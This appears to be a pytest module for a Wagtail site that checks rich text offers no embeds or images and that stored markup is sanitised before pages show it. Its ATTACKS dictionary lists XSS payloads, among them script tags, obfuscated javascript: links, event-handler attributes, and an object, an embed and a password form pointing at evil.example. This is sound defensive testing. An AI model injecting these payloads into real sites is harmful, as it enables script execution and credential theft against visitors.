"""Rich text on the public site holds text, headings, lists and links, nothing more.

Videos and pictures are blocks of their own, which wait for the reader's consent
(privacy.embeds) and come as responsive images (core.images). Rich text that
still holds an embed or a picture from before, or markup the editor would never
have stored, is shown through the same gate and pipeline, or not at all.
"""

import html
import json
import re
from urllib.parse import urlsplit

import pytest
import wagtail_factories
from django.apps import apps
from django.urls import reverse
from lxml import html as lxml_html
from wagtail.blocks import RichTextBlock, StreamBlock, StructBlock
from wagtail.blocks.list_block import ListBlock
from wagtail.fields import RichTextField, StreamField
from wagtail.test.utils.form_data import querydict_from_html

from articles.models import EbookPage, EventSummaryPage

from . import factories

pytestmark = pytest.mark.django_db

EMBEDDED_FEATURES = {"embed", "image"}
TEMPLATE_ELEMENT = re.compile(r"<template\b.*?</template>", re.DOTALL)
PROJECT_APPS = ("articles", "network", "home", "privacy", "core", "search", "audience", "thai")


def rich_text_blocks(block, path):
    if isinstance(block, RichTextBlock):
        yield path, block
    elif isinstance(block, StreamBlock | StructBlock):
        for name, child in block.child_blocks.items():
            yield from rich_text_blocks(child, f"{path}.{name}")
    elif isinstance(block, ListBlock):
        yield from rich_text_blocks(block.child_block, f"{path}.item")


def reader_rich_text():
    """Every rich text field and block of the project's models, by name."""
    for config in apps.get_app_configs():
        if config.name not in PROJECT_APPS:
            continue
        for model in config.get_models():
            for field in model._meta.get_fields():
                name = f"{model.__name__}.{field.name}"
                if isinstance(field, RichTextField):
                    yield name, field.features
                elif isinstance(field, StreamField):
                    for path, block in rich_text_blocks(field.stream_block, name):
                        yield path, block.features


READER_RICH_TEXT = dict(reader_rich_text())


def path_of(page):
    return urlsplit(page.url).path


def section(text, heading_id):
    match = re.search(
        rf'<section class="event-section" aria-labelledby="{heading_id}">.*?</section>',
        text,
        re.DOTALL,
    )
    assert match, f"no {heading_id} section on the page"
    return match.group(0)


def outside_templates(text):
    return TEMPLATE_ELEMENT.sub("", text)


def event_with(site_tree, **rich_text):
    return factories.EventSummaryPageFactory(parent=site_tree["events"], **rich_text)


# --- what editors are offered ------------------------------------------------------


def test_the_project_has_the_rich_text_this_module_expects():
    assert {
        "EventSummaryPage.activities",
        "EventSummaryPage.next_steps",
        "EbookPage.summary",
        "ArticlePage.body.paragraph",
        "InformationPage.body.paragraph",
    } <= set(READER_RICH_TEXT)


@pytest.mark.parametrize("name", sorted(READER_RICH_TEXT))
def test_no_rich_text_offers_embeds_or_images(name):
    features = READER_RICH_TEXT[name]
    # An explicit list: Wagtail's default one has both.
    assert features is not None, f"{name} uses Wagtail's default features"
    assert not EMBEDDED_FEATURES & set(features), name


@pytest.mark.parametrize(
    ("model", "field"),
    [(EventSummaryPage, "activities"), (EventSummaryPage, "next_steps"), (EbookPage, "summary")],
)
def test_the_admin_editor_has_no_embed_or_image_button(editor_client, site_tree, model, field):
    page = (
        factories.EventSummaryPageFactory(parent=site_tree["events"])
        if model is EventSummaryPage
        else factories.EbookPageFactory(parent=site_tree["ebooks"])
    )
    response = editor_client.get(reverse("wagtailadmin_pages:edit", args=[page.pk]))
    assert response.status_code == 200
    inputs = lxml_html.fromstring(response.content).xpath(f'//input[@name="{field}"]')
    assert len(inputs) == 1, f"no rich text editor for {field}"
    options = json.loads(inputs[0].get("data-w-init-detail-value"))
    entity_types = {entity["type"] for entity in options.get("entityTypes", [])}
    assert "LINK" in entity_types
    assert not {"EMBED", "IMAGE"} & entity_types


def draft_block(key, kind, text, entity=None):
    """One block of the admin editor's format (Draft.js content state)."""
    ranges = [] if entity is None else [{"offset": 0, "length": len(text), "key": entity}]
    return {
        "key": key,
        "type": kind,
        "text": text,
        "depth": 0,
        "inlineStyleRanges": [],
        "entityRanges": ranges,
        "data": {},
    }


def test_an_embed_posted_through_the_admin_is_not_stored(editor_client, site_tree):
    event = event_with(site_tree, activities="<p>เดิม</p>", objectives=[])
    embed = factories.EmbedFactory()
    image = wagtail_factories.ImageFactory()
    edit_url = reverse("wagtailadmin_pages:edit", args=[event.pk])
    data = querydict_from_html(
        editor_client.get(edit_url).content.decode(), form_id="page-edit-form"
    )
    # What a hand-made request (or an old editor script) would send: the text with
    # a video and a picture in it, in the editor's own format.
    data["activities"] = json.dumps(
        {
            "blocks": [
                draft_block("a1", "unstyled", "ลงพื้นที่"),
                draft_block("a2", "atomic", " ", entity=0),
                draft_block("a3", "atomic", " ", entity=1),
            ],
            "entityMap": {
                "0": {
                    "type": "EMBED",
                    "mutability": "IMMUTABLE",
                    "data": {"url": embed.url, "embedType": "video"},
                },
                "1": {
                    "type": "IMAGE",
                    "mutability": "IMMUTABLE",
                    "data": {"id": image.pk, "format": "fullwidth", "alt": "ภาพ"},
                },
            },
        }
    )
    # Stream fields are drawn by the admin's script, which sends how many blocks each has.
    for field in EventSummaryPage._meta.get_fields():
        if isinstance(field, StreamField):
            data[f"{field.name}-count"] = "0"
    data["action-publish"] = "action-publish"
    response = editor_client.post(edit_url, data)
    assert response.status_code == 302, response.content.decode()[:2000]

    stored = EventSummaryPage.objects.get(pk=event.pk).activities
    assert "ลงพื้นที่" in stored
    assert "<embed" not in stored

    page = outside_templates(editor_client.get(path_of(event)).content.decode())
    activities = section(page, "activities")
    assert "ลงพื้นที่" in activities
    assert "<iframe" not in activities
    assert "<img" not in activities


# --- rich text stored before: embeds and pictures ---------------------------------


def old_embed(url):
    return f'<embed embedtype="media" url="{url}"/>'


def old_image(image, alt="ภาพกิจกรรม"):
    return f'<embed alt="{alt}" embedtype="image" format="fullwidth" id="{image.pk}"/>'


def placeholder_template(html):
    return "".join(re.findall(r"<template data-embed-html>(.*?)</template>", html, re.DOTALL))


def test_an_old_embed_in_rich_text_waits_for_consent(client, site_tree):
    embed = factories.EmbedFactory()
    event = event_with(site_tree, activities=f"<p>คลิปเวที</p>{old_embed(embed.url)}")

    activities = section(client.get(path_of(event)).content.decode(), "activities")
    assert "คลิปเวที" in activities
    assert "<iframe" not in outside_templates(activities)
    placeholder = re.search(
        r'<div class="embed embed--placeholder".*?</div>', activities, re.DOTALL
    ).group(0)
    assert "YouTube" in placeholder
    assert f'href="{embed.url}"' in placeholder

    # The player waits in the placeholder's template for the page's script, which
    # shows it to a reader who allows external media.
    iframes = re.findall(r"<iframe[^>]*>", placeholder_template(activities))
    assert len(iframes) == 1
    assert "https://www.youtube.com/embed/" in iframes[0]


def test_an_old_picture_in_rich_text_is_a_responsive_image(client, site_tree):
    image = wagtail_factories.ImageFactory()
    event = event_with(site_tree, next_steps=f"<p>ภาพจากเวที</p>{old_image(image)}")

    next_steps = section(client.get(path_of(event)).content.decode(), "next-steps")
    picture = re.search(r"<picture>.*?</picture>", next_steps, re.DOTALL)
    assert picture, next_steps
    assert re.search(r'<img[^>]*srcset="[^"]+ \d+w', picture.group(0))
    assert 'alt="ภาพกิจกรรม"' in picture.group(0)
    # Its modern formats are made once the first reader's response has gone.
    next_steps = section(client.get(path_of(event)).content.decode(), "next-steps")
    assert re.search(r'<source type="image/webp" srcset="[^"]+ \d+w', next_steps)


@pytest.mark.parametrize(
    "missing",
    [
        '<embed embedtype="image" format="left" id="999999"/>',
        '<embed embedtype="image" format="left" id="x"/>',
    ],
)
def test_an_old_picture_that_is_gone_is_left_out(client, site_tree, missing):
    event = event_with(site_tree, next_steps=f"<p>ภาพจากเวที</p>{missing}")
    response = client.get(path_of(event))
    assert response.status_code == 200
    next_steps = section(response.content.decode(), "next-steps")
    assert "ภาพจากเวที" in next_steps
    assert "<img" not in next_steps


# --- markup the editor would never store ----------------------------------------------

ATTACKS = {
    "script": '<p>ก่อน</p><script>alert("x")</script><p>หลัง</p>',
    "script in a heading": '<h3>หัวข้อ<script src="https://evil.example/x.js"></script></h3>',
    "javascript link": '<p><a href="javascript:alert(1)">ลิงก์</a></p>',
    "javascript link hidden by a tab": '<p><a href="jav&#x09;ascript:alert(1)">ลิงก์</a></p>',
    "javascript link in capitals": '<p><a href="JAVASCRIPT:alert(1)">ลิงก์</a></p>',
    "data link": '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ลิงก์</a></p>',
    "iframe": '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
    "image with onerror": '<p><img src="x" onerror="alert(1)">ภาพ</p>',
    "onclick on a paragraph": '<p onclick="alert(1)">ย่อหน้า</p>',
    "onmouseover on a link": '<p><a href="https://example.org/" onmouseover="alert(1)">ลิงก์</a></p>',
    "svg onload": '<svg onload="alert(1)"><circle r="4"/></svg>',
    "style": '<style>body{display:none}</style><p style="background:url(javascript:x)">ข้อ</p>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "form": '<form action="https://evil.example/"><input name="password"></form>',
    "embed of a javascript url": '<embed embedtype="media" url="javascript:alert(1)"/>',
    "embed with its own src": '<embed src="https://evil.example/x.swf"/>',
    "comment": "<!--<script>alert(1)</script>--><p>ข้อความ</p>",
}


def inert(text):
    """What a browser would run or fetch in a piece of the page."""
    active = re.findall(r"<(?:script|iframe|object|embed|svg|style|form|input|img)\b", text, re.I)
    active += re.findall(r"\s(?:on\w+|style)\s*=", text, re.I)
    active += re.findall(r"evil\.example", text)
    for url in re.findall(r"""\s(?:href|src|action|data)\s*=\s*["']([^"']*)""", text, re.I):
        # As a browser reads it: entities decoded, tabs and spaces dropped.
        url = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(url)).lower()
        if url.startswith(("javascript:", "data:", "vbscript:")):
            active.append(url)
    return active


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_markup_in_stored_rich_text_is_made_inert_on_the_event_summary_page(
    client, site_tree, name
):
    event = event_with(site_tree, activities=ATTACKS[name], next_steps=ATTACKS[name])
    response = client.get(path_of(event))
    assert response.status_code == 200
    text = response.content.decode()
    for heading_id in ("activities", "next-steps"):
        shown = section(text, heading_id)
        assert not inert(shown), (name, shown)


def test_what_rich_text_may_hold_is_kept(client, site_tree):
    target = factories.ArticlePageFactory(parent=site_tree["articles"])
    activities = (
        "<h3>วันแรก</h3><p><b>ลงพื้นที่</b> และ <i>สัมภาษณ์</i> "
        '<a href="https://example.org/report">รายงาน</a> '
        f'<a linktype="page" id="{target.pk}">บทความ</a></p>'
        "<ul><li>หนึ่ง</li></ul><ol><li>สอง</li></ol>"
    )
    event = event_with(site_tree, activities=activities)
    shown = section(client.get(path_of(event)).content.decode(), "activities")
    for kept in (
        "<h3>วันแรก</h3>",
        "<b>ลงพื้นที่</b>",
        "<i>สัมภาษณ์</i>",
        '<a href="https://example.org/report">รายงาน</a>',
        f'<a href="{path_of(target)}">บทความ</a>',
        "<ul><li>หนึ่ง</li></ul>",
        "<ol><li>สอง</li></ol>",
    ):
        assert kept in shown
